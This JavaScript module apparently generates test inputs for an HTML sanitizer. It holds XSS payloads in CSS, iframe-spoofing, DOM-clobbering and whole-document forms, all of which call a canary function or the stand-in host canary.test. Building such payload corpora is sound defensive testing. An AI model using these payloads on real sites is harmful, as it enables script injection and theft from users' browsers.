// Styles, frames, names and documents.

const STYLES = [
  "background:url(javascript:fired(#))", "width:expression(fired(#))", "w\\69dth:e/**/xpression(fired(#))",
  "-moz-binding:url(http://canary.test/#/xbl)", "behavior:url(http://canary.test/#/htc)", "background:url('http://canary.test/#/css')",
  "background-image:image-set('http://canary.test/#/set' 1x)", "content:url(http://canary.test/#/content)",
  "list-style-image:url(//canary.test/#/list)", "border-image:url(http://canary.test/#/border) 1", "mask:url(http://canary.test/#/mask)",
  "filter:url(http://canary.test/#/filter#a)", "cursor:url(http://canary.test/#/cursor),auto", "--a:url(http://canary.test/#/var);background:var(--a)",
  "position:fixed;inset:0;background:url(http://canary.test/#/over)", "background:\\75rl(http://canary.test/#/escaped)",
  "display:none;background:url(http://canary.test/#/hidden)", "animation:a 1ms;background:url(http://canary.test/#/animated)",
  "offset-path:url(http://canary.test/#/path)", "clip-path:url(http://canary.test/#/clip)", "shape-outside:url(http://canary.test/#/shape)",
  "src:url(http://canary.test/#/src)", "xss:e\\0078pression(fired(#))", "}</style><img src=x onerror=fired(#)><style>",
];
const STYLED = [
  (style) => `<p style="${style}">x</p>`,
  (style) => `<div STYLE='${style}'>x</div>`,
  (style) => `<style>*{${style}}</style><p>x`,
  (style) => `<svg><style>*{${style}}</style><rect width=9 height=9>`,
  (style) => `<link rel=stylesheet href="data:text/css,*{${encodeURIComponent(style)}}">`,
  (style) => `<td style="${style}">x</td>`,
];

/** The first of them fetches by itself wherever it is shown. */
export function styles() {
  const [first, ...others] = [STYLES[5], ...STYLES.filter((_, at) => at !== 5)];
  return [first, ...others].flatMap((style) => STYLED.map((place) => (n) => place(style.replaceAll("#", n))));
}

/** Addresses that are nearly those of the players that may be framed. */
const PLAYERS = ["www.youtube.com/embed/", "www.youtube-nocookie.com/embed/", "player.vimeo.com/video/", "www.dailymotion.com/embed/"];
const IMPOSTORS = [
  (n) => `src="http://canary.test/${n}/frame?#"`,
  (n, player) => `src="https://${player}x" src="http://canary.test/${n}/second"`,
  (n, player) => `src="https://${player}x" srcdoc="<script>parent.fired(${n})</script>"`,
  (n, player) => `src="javascript:parent.fired(${n})//https://${player}"`,
  (n, player) => `src="https://${player}x" onload="fired(${n})"`,
  (n, player) => `src="http://canary.test/${n}/https://${player}"`,
  (n, player) => `src="http://${player.split("/")[0]}@canary.test/${n}/user"`,
  (n, player) => `src="http://canary.test\\@${player}${n}"`,
  (n, player) => `src="//canary.test/${n}/slashes?${player}"`,
  (n, player) => `src="https://${player}x" sandbox="" allow="*" name="fired(${n})"`,
  (n, player) => `src="https://${player}%2e%2e/redirect?q=http://canary.test/${n}/redirect"`,
  (n, player) => `src="http&#58;//canary.test/${n}/entity/${player}"`,
  (n, player) => `src="data:text/html,<script>parent.fired(${n})</script>${player}"`,
  (n, player) => `src="https://${player}\"onload=fired(${n})//"`,
  (n, player) => `src='https://${player}x' style="position:fixed;inset:0" onmouseover=fired(${n})`,
];

/** The first of them fetches by itself wherever it is shown. */
export function frames() {
  return PLAYERS.flatMap((player) =>
    IMPOSTORS.flatMap((impostor) => [
      (n) => `<iframe ${impostor(n, player)}></iframe>`,
      (n) => `<p><iframe width=1 ${impostor(n, player)}>x<img src=y onerror=fired(${n})></iframe>`,
    ]),
  );
}

/** Names that scripts of a page look up. */
export const NAMES = `cookie forms body domain location createElement getElementById querySelector write defaultView head
  documentElement currentScript implementation scripts images links title URL referrer adoptNode append config settings`.split(/\s+/);
const CLOBBERS = [
  (name) => `<img name=${name}>`,
  (name) => `<form name=${name}><input name=id></form>`,
  (name) => `<embed name=${name}>`,
  (name) => `<object id=${name}></object>`,
  (name) => `<a id=${name} href=https://a.example></a><a id=${name} name=value href=x></a>`,
  (name) => `<iframe name=${name} src=https://www.youtube.com/embed/x></iframe>`,
];

/** The first of them takes a name from the document wherever it is shown. */
export function clobbering() {
  return NAMES.flatMap((name) => CLOBBERS.map((clobber) => (n) => `${clobber(name)}<!--${n}--><p>${n}</p>`));
}

/** Whole documents, and several attacks at once. */
const DOCUMENTS = [
  (n) => `<html><body onload=fired(${n})><img src=x onerror=fired(${n})>`,
  (n) => `<base href=http://canary.test/${n}/base/><script src=a.js></script>`,
  (n) => `<meta http-equiv=Content-Security-Policy content="script-src *"><script>fired(${n})</script>`,
  (n) => `<meta charset=utf-7>+ADw-script+AD4-fired(${n})+ADw-/script+AD4-`,
  (n) => `<meta http-equiv=set-cookie content="a=<script>fired(${n})</script>">`,
  (n) => `<template shadowrootmode=open><script>fired(${n})</script></template>`,
  (n) => `<div><template shadowrootmode=open><img src=x onerror=fired(${n})></template></div>`,
  (n) => `<portal src=javascript:fired(${n})>`,
  (n) => `<fencedframe src=javascript:fired(${n})>`,
  (n) => `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://canary.test/${n}/speculation"]}]}</script>`,
  (n) => `<script type=importmap>{"imports":{"a":"http://canary.test/${n}/map"}}</script><script type=module>import "a"</script>`,
  (n) => `<?xml-stylesheet href="http://canary.test/${n}/xsl" type="text/xsl"?><p>x`,
  (n) => `<button popovertarget=p>x</button><p popover id=p onbeforetoggle=fired(${n})>x`,
  (n) => `<input type=hidden oncontentvisibilityautostatechange=fired(${n}) style=content-visibility:auto>`,
  (n) => `<dialog open onclose=fired(${n})><form method=dialog><button>x</button></form></dialog>`,
  (n) => `<form id=f></form><button form=f formaction=javascript:fired(${n})>x</button>`,
  (n) => `<noscript><style></noscript><img src=x onerror=fired(${n})>`,
  (n) => `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=fired(${n}) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=fired(${n})//>`,
  (n) => `"'--></style></script><svg onload=fired(${n})>`,
  (n) => `\${fired(${n})}{{constructor.constructor('fired(${n})')()}}#{fired(${n})}`,
  (n) => `]]></content><script xmlns="http://www.w3.org/1999/xhtml">fired(${n})</script><content><![CDATA[`,
  (n) => `</summary></entry><x:script xmlns:x="http://www.w3.org/1999/xhtml">fired(${n})</x:script>`,
  (n) => `"}]}</script><script>fired(${n})</script>`,
  (n) => `\u2028fired(${n})\u2029//`,
];

/** The first of them fires by itself wherever it is shown. */
export function documents() {
  return DOCUMENTS.flatMap((text) => [text, (n) => `<p>Tin <b>xã</b></p>${text(n)}<p>Hết</p>`, (n) => `<table><tr><td>${text(n)}</table>`]);
}
